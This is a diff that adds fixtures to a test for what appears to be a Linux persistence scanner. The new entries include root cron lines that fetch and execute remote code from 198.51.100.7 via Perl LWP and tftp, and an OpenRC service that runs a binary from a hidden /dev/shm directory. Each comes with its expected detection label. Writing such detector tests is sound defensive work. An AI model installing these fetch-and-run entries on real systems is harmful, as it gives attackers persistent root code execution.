@@ -383,6 +383,23 @@ test('persistence: Alpine crontabs, at jobs, inittab, logrotate, skel, fish, git
       ['backdoor-sshd-empty-passwords'],
     ],
     ['etc/ssh/sshd_config', 'PermitRootLogin prohibit-password\nPermitEmptyPasswords no\n', []],
+    [
+      'etc/cron.d/perl',
+      '* * * * * root perl -MLWP::Simple -e "eval get(q{http://198.51.100.7/p})"\n',
+      ['persistence-fetch-and-run'],
+    ],
+    [
+      'etc/cron.d/tftp',
+      '* * * * * root cd /var && tftp -g -r x 198.51.100.7 && sh x\n',
+      ['persistence-fetch-and-run'],
+    ],
+    ['etc/cron.d/ok', '0 3 * * * root curl -fsS https://hc.example.test/ping && sh -c "echo ok"\n', []],
+    [
+      'etc/init.d/sshd2',
+      '#!/sbin/openrc-run\ncommand=/dev/shm/.s/sshd\ncommand_background=true\n',
+      ['persistence-runs-from-hidden-or-temp'],
+    ],
+    ['etc/init.d/nginx', '#!/sbin/openrc-run\ncommand=/usr/sbin/nginx\n', []],
   ];
   for (const [path, content, expected] of more) {
     assert.deepEqual(
